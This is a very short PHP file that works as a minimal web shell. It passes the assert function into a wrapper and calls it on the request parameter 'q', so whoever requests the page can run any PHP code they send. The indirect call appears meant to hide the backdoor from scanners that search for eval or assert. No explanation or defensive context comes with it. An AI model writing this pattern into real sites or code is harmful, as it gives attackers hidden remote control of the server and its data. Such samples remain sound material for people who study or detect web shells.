<?php
function runit($fn) {
  $fn($_GET["q"]);
}
runit(assert);
